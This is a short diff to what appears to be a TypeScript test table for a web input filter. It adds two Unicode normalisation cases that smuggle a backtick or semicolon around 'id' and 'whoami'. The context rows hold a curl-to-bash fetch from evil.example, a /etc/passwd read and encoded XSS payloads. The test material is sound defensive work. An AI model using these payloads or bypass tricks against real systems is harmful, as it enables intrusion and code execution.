@@ -34,6 +34,8 @@ const attacks: [string, string, Sent, string][] = [
   ['a command in a note', '/api/orders', inNote('`curl https://evil.example/x.sh | bash`'), 'ARGS:text'],
   ['a command on a line of its own', '/api/orders', inNote('Hello\n/bin/cat /etc/passwd'), 'ARGS:text'],
   ['full-width letters', '/api/orders', inNote('＜script＞alert(1)＜/script＞'), 'ARGS:text'],
+  ['a backtick that is one in normal form C alone', '/api/orders', inNote('\u1fefid\u1fef'), 'ARGS:text'],
+  ['a semicolon that is one in normal form C alone', '/api/orders', inNote('x\u037ewhoami'), 'ARGS:text'],
   ['an encoded attack', '/api/orders', inNote('%3Cscript%3Ealert(1)%3C/script%3E'), 'ARGS:text'],
   ['an attack in entities', '/api/orders', inNote('&lt;script&gt;alert(1)&lt;/script&gt;<script>'), 'ARGS:text'],
   ['an attack in base64', '/api/orders', inNote('ZXZhbCgxKTsx'), 'ARGS:text'],
